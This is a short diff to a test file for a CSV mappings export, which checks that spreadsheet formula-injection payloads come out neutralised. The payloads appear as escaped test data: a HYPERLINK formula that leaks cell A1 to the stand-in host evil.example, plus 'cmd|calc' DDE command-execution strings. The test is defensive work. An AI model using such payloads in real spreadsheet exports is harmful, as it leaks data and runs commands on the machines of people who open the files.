@@ -102,7 +102,8 @@ describe('esr-gateway mappings import', () => {
     expect(rows.slice(0, payloads.length).map((r) => r.portalUserId)).toEqual(payloads.map((p) => `'${p}`));
     expect(rows[payloads.length].employeeNumber).toBe("'=1+2");
     // No cell of the file starts with a formula character (quoted or not).
-    for (const record of parse(text) as string[][]) for (const cell of record) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    const records: string[][] = parse(text);
+    for (const record of records) for (const cell of record) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
     expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`);
     expect(text).toContain("'+cmd|calc");
     expect(text).toContain("'@SUM(1+1)*cmd|calc");
